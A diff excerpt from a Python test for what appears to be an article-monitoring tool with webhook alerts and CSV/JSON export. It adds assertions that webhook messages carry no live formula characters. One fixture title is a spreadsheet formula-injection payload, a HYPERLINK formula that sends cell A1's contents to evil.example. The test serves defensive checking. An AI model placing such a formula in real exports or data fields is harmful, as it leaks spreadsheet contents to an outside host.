@@ -394,6 +394,9 @@ items = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
     api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
          {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": body + "<p>二</p>"}])
     assert rw("run", "--once", "-c", cfg).returncode == 0
+    events = [json.dumps(m["body"], ensure_ascii=False) for m in receiver.messages]   # the webhook's data too
+    assert events and not any(c in e for e in events for c in LIVE)     # (the second joins the first one's story)
+    assert any("利率上限通知" in e for e in events)
 
     for args in (["search", "利率"], ["alerts"], ["sources"], ["search", "利率", "--json"], ["export"],
                  ["export", "--format", "csv"], ["alerts", "--json"]):
